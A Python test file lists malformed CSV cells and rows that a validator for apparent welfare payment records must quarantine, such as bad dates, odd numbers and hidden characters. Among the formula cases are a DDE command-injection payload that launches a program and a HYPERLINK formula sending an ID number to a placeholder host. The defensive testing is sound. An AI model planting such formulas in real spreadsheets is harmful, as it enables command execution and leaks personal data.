"""Cells that are no value: formulas, errors of spreadsheets, dates that are none, numbers that could be two, nobody's rows."""

from collections.abc import Callable, Mapping
from typing import Final

from tests.corpus.case import NAME, NUMBER, Case, Fate, accepted, quarantined, row
from tests.sources.making import csv_text

_NO_DATE: Final = quarantined("converts", 1, 2, "“日期”应为可识别的日期")
_NO_MONEY: Final = quarantined("converts", 1, 2, "“金额”应为金额（数字")
_NO_CODE: Final = quarantined("converts", 1, 2, "“类别”应为约定的取值（低保、特困）")
_NO_KEY: Final = quarantined("key_is_filled", 1, 2, "“单号”靠它认出是哪一行，不可为空")
_NOBODY: Final = quarantined("has_identity", 1, 2, "姓名与证件号码至少应填一项")
_ROUNDED: Final = quarantined("id_number_is_exact", 1, 2, "请把该列设为文本后重新录入")
_NOT_DATA: Final = quarantined("is_data_row", 1, 2, "应为数据行，不是合计")

_CELLS: Final[dict[str, tuple[str, str, Fate]]] = {
    "公式算金额": ("paid", "=1+1", _NO_MONEY),
    "公式加号": ("paid", "@SUM(A1:A9)", _NO_MONEY),
    "公式命令": ("kind", "=cmd|'/c calc'!A0", _NO_CODE),
    "公式日期": ("day", "=TODAY()", _NO_DATE),
    "公式链接": ("kind", f'=HYPERLINK("http://x.invalid/?{NUMBER}","{NAME}")', _NO_CODE),
    "错误值引用": ("paid", "#REF!", _NO_MONEY),
    "错误值取值": ("day", "#VALUE!", _NO_DATE),
    "错误值名称": ("kind", "#NAME?", _NO_CODE),
    "井号": ("day", "########", _NO_DATE),
    "二月三十": ("day", "2024-02-30", _NO_DATE),
    "十三月": ("day", "2024-13-05", _NO_DATE),
    "全零日期": ("day", "0000-00-00", accepted(2, paid_on=(None, "2024-01-05"))),
    "序数日期": ("day", "45296", _NO_DATE),
    "日月不明": ("day", "01/05/2024", _NO_DATE),
    "日期里是人": ("day", NAME, _NO_DATE),
    "日期里是号码": ("day", NUMBER, _NO_DATE),
    "将来的日期": ("day", "2099-01-01", quarantined("not_after_receipt", 1, 2, "不应晚于收到文件的日期")),
    "太早的日期": ("day", "1950-12-31", quarantined("in_range", 1, 2, "不小于 2000-01-01")),
    "三位小数": ("paid", "12.505", accepted(2, amount=("12.50", "12.51"))),
    "两个小数点": ("paid", "12.50.1", _NO_MONEY),
    "两个负号": ("paid", "--12.50", _NO_MONEY),
    "十六进制": ("paid", "0x0C", _NO_MONEY),
    "四百位金额": ("paid", "9" * 400, _NO_MONEY),
    "无穷": ("paid", "Infinity", _NO_MONEY),
    "分数": ("paid", "25/2", _NO_MONEY),
    "金额里是人": ("paid", NAME, _NO_MONEY),
    "未列的代码": ("kind", "低保？", _NO_CODE),
    "代码里零宽": ("kind", "低\u200b保", _NO_CODE),
    "代码是表情": ("kind", "😀", _NO_CODE),
    "代码里控制字符": ("kind", "\x1b[31m低保", _NO_CODE),
    "代码里换行": ("kind", "低\n保", _NO_CODE),
    "空主键": ("no", "", _NO_KEY),
    "空白主键": ("no", "\u3000 \u00a0", _NO_KEY),
    "科学计数号码": ("id", "9.90101E+17", _ROUNDED),
    "号码尾零": ("id", "990101196001011000", _ROUNDED),
    "合计": ("no", "合计", accepted(2)),
}
"""Column, what is written there, the fate.  A row with a name is a person's row, whatever its key says."""


_EMPTY: Final = {"no": "", "name": "", "id": "", "day": "", "paid": "", "kind": ""}
_ROWS: Final[dict[str, tuple[dict[str, str], Fate]]] = {
    "无人": ({"name": "", "id": ""}, _NOBODY),
    "空白人": ({"name": "\u3000", "id": "\u00a0 "}, _NOBODY),
    "合计": (_EMPTY | {"no": "合计", "paid": "12.50"}, _NOT_DATA),
    "填表人": (_EMPTY | {"no": f"填表人：{NAME}"}, _NOT_DATA),
    "说明": (_EMPTY | {"no": f"说明：{NUMBER} 已迁出"}, _NOT_DATA),
}


def _made(changes: Mapping[str, str]) -> Callable[[str], bytes]:
    return lambda tag: csv_text([row(tag, 1), row(tag, 2, **changes)]).encode()


CASES: Final = (
    *(Case(f"格-{name}.csv", fate, _made({column: text}), "corpus_text") for name, (column, text, fate) in _CELLS.items()),
    *(Case(f"行-{name}.csv", fate, _made(changes), "corpus_text") for name, (changes, fate) in _ROWS.items()),
)
